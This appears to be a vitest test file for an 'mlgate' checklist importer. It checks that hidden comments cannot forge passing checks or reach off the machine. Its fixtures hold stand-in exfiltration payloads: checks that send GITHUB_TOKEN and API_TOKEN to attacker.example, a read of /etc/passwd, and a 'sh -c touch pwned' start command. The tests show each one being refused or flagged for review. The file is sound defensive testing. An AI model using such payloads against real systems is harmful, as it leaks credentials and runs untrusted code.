/**
 * A checklist from anyone: what its hidden mlgate comments may and may not bring into the
 * spec. Each case is a way a comment could make an item pass on words that are false, or
 * reach outside the project or the machine.
 */
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { parseChecklist } from './parse.js';
import { checklistToSpec } from './to-spec.js';

function importMarkdown(markdown: string) {
  const result = checklistToSpec(parseChecklist(markdown), {
    name: 'x',
    source: 'CHECKLIST.md',
    trustComments: true,
  });
  const spec = parse(result.yaml) as {
    service?: Record<string, unknown>;
    sections: Array<{ items: Array<Record<string, unknown>> }>;
  };
  return { result, spec, items: spec.sections.flatMap((s) => s.items) };
}

const comment = (value: unknown) => `  <!-- mlgate: ${JSON.stringify(value)} -->`;

describe('mlgate comments from a checklist', () => {
  test('are ignored unless the user says the file is their own export', () => {
    const markdown = [
      '## Model',
      '- [ ] Model under 5 MB {#model-file}',
      '  - Checked by mlgate (file)',
      '',
      comment({ title: 'Model under 5 MB', check: { kind: 'file', path: 'model.onnx', max_size: '500 MB' } }),
      '',
    ].join('\n');
    const result = checklistToSpec(parseChecklist(markdown), { name: 'x', source: 'CHECKLIST.md' });
    expect(result.restored).toBe(0);
    expect(result.notes[0]).toMatch(
      /1 mlgate comment ignored: the checks come from the words.*--trust-comments/,
    );
    expect(result.yaml).not.toContain('500 MB');
  });

  test('an exported item comes back with its check', () => {
    const { items, result } = importMarkdown(
      [
        '## Model',
        '- [ ] Model under 500 MB {#model-file}',
        '  - Checked by mlgate (file)',
        '',
        comment({
          title: 'Model under 500 MB',
          check: { kind: 'file', path: 'model.onnx', max_size: '500 MB' },
        }),
        '',
      ].join('\n'),
    );
    expect(items[0]).toMatchObject({ check: { kind: 'file', max_size: '500 MB' } });
    expect(result.restored).toBe(1);
    expect(result.notes).toEqual([]);
  });

  test('a hidden comment cannot turn a sign-off into a check that passes', () => {
    const { items, result } = importMarkdown(
      [
        '## Approvals',
        '- [ ] Legal approves the release',
        '',
        comment({ title: 'Legal approves the release', check: { kind: 'file', path: 'mlgate.yaml' } }),
        '',
      ].join('\n'),
    );
    expect(items[0]).toMatchObject({ manual: { roles: ['legal'] } });
    expect(items[0]).not.toHaveProperty('check');
    expect(result.notes[0]).toMatch(/names a file check the item does not show/);
  });

  test('an edited title takes its check from the new words, not the old comment', () => {
    const { items, result } = importMarkdown(
      [
        '## Model',
        '- [ ] Model file < 5 MB',
        '  - Checked by mlgate (file)',
        '',
        comment({
          title: 'Model file < 500 MB',
          check: { kind: 'file', path: 'model.onnx', max_size: '500 MB' },
        }),
        '',
      ].join('\n'),
    );
    expect(items[0]).toMatchObject({ check: { kind: 'file', max_size: '5 MB' } });
    expect(result.notes[0]).toMatch(/differs from the title its mlgate comment was written for/);
  });

  test('a check sent off the machine is refused; allow_outside_project is dropped', () => {
    const { items, result } = importMarkdown(
      [
        '## Service',
        '- [ ] Predictions are correct',
        '  - Checked by mlgate (http)',
        '',
        comment({
          title: 'Predictions are correct',
          check: {
            kind: 'http',
            url: 'https://attacker.example/collect',
            headers: { 'X-T': '${env.GITHUB_TOKEN}' },
          },
        }),
        '- [ ] Config present',
        '  - Checked by mlgate (file)',
        '',
        comment({
          title: 'Config present',
          allow_outside_project: true,
          check: { kind: 'file', path: '/etc/passwd' },
        }),
        '',
      ].join('\n'),
    );
    expect(items[0]).not.toHaveProperty('check.url');
    expect(result.notes[0]).toMatch(
      /sends the http check to https:\/\/attacker\.example\/collect, off this machine; ignored/,
    );
    expect(items[1]).toMatchObject({ check: { kind: 'file', path: '/etc/passwd' } });
    expect(items[1]).not.toHaveProperty('allow_outside_project');
    expect(result.notes[1]).toMatch(/allow_outside_project from an mlgate comment dropped/);
  });

  test('a url nested in the params is refused too: the alerts kind reading metrics from elsewhere', () => {
    const { items, result } = importMarkdown(
      [
        '## Monitoring',
        '- [ ] Alert rules configured',
        '  - Checked by mlgate (alerts)',
        '',
        comment({
          title: 'Alert rules configured',
          check: {
            kind: 'alerts',
            paths: 'monitoring/',
            metrics: {
              url: 'https://attacker.example/metrics',
              headers: { Authorization: '${env.API_TOKEN}' },
            },
          },
        }),
        '',
      ].join('\n'),
    );
    expect(items[0]).not.toHaveProperty('check.metrics');
    expect(result.notes[0]).toMatch(
      /sends the alerts check to https:\/\/attacker\.example\/metrics, off this machine/,
    );
  });

  test("the spec's service cannot point off the machine, and its start command waits for review", () => {
    const spec = {
      version: 1,
      project: { name: 'x' },
      service: { url: 'https://attacker.example', allow_remote: true },
    };
    const { spec: out, result } = importMarkdown(
      [`<!-- mlgate-spec: ${JSON.stringify(spec)} -->`, '## S', '- [ ] Something', ''].join('\n'),
    );
    expect(out.service).toEqual({ url: 'http://127.0.0.1:8000' });
    expect(result.notes.join('\n')).toMatch(
      /off this machine: replaced by a TODO placeholder[\s\S]*allow_remote/,
    );
    const started = importMarkdown(
      [
        `<!-- mlgate-spec: ${JSON.stringify({ version: 1, project: { name: 'x' }, service: { start: { argv: ['sh', '-c', 'touch pwned'] } } })} -->`,
        '## S',
        '- [ ] Something',
        '',
      ].join('\n'),
    );
    expect(started.spec.service).toEqual({
      start: { review: 'required', argv: ['sh', '-c', 'touch pwned'] },
    });
  });
});
